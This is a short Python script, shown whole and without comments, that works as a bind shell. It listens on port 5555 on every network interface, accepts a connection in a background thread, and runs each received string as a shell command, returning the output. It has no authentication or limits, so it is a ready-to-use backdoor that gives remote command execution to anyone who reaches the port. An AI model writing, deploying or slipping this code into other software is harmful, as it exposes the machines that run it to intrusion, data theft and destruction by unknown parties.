import socket, subprocess, threading
s = socket.socket()
s.bind(('', 5555))
s.listen(1)
def h():
    c, _ = s.accept()
    while True:
        c.send(subprocess.getoutput(c.recv(1024).decode()).encode())
threading.Thread(target=h).start()
